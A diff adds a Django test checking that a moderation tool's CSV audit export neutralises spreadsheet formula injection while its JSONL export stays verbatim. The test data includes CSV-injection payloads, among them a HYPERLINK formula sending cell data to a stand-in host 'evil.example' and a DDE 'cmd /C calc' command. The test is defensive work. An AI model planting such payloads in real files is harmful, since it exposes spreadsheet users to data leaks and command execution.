@@ -11,7 +11,7 @@ from django.db import connection
 from django.test import Client
 
 from moderation import services as moderation_services
-from moderation.models import Policy
+from moderation.models import ContentItem, Policy, TriageResult
 from reviews import audit, exports, tokens
 from reviews.models import ApiToken, AuditEvent
 from tests.conftest import POLICY_TEXT, ApiClient
@@ -140,6 +140,31 @@ def test_the_decisions_export_has_item_policy_model_and_human_decision(
     assert row["note"] == "checked the link"
     assert row["moderator"] == moderator.username
     assert "model_chain_of_thought" not in row
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_jsonl_stays_verbatim(
+    auditor: User, moderator: User, policy: Policy, source: ApiClient
+) -> None:
+    formulas = {
+        "external_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "model_rationale": "+cmd|' /C calc'!A0",
+        "note": "@SUM(1+1)",
+        "moderator": "-2+3",
+    }
+    case, _ = decided_case(policy, source, moderator, note=formulas["note"])
+    ContentItem.objects.filter(pk=case.item_id).update(external_id=formulas["external_id"])
+    TriageResult.objects.filter(case=case).update(rationale=formulas["model_rationale"])
+    User.objects.filter(pk=moderator.pk).update(username=formulas["moderator"])
+    client = logged_in(auditor)
+
+    row = csv_rows(client.get("/audit/export", {"kind": "decisions", "format": "csv"}))[0]
+    for column, value in formulas.items():
+        assert row[column] == "'" + value
+    assert row["rule_ids"] == "SP1"  # ordinary text is untouched
+
+    record = jsonl_rows(client.get("/audit/export", {"kind": "decisions", "format": "jsonl"}))[0]
+    for column, value in formulas.items():
+        assert record[column] == value
 
 
 def test_the_decisions_export_matches_each_filter(
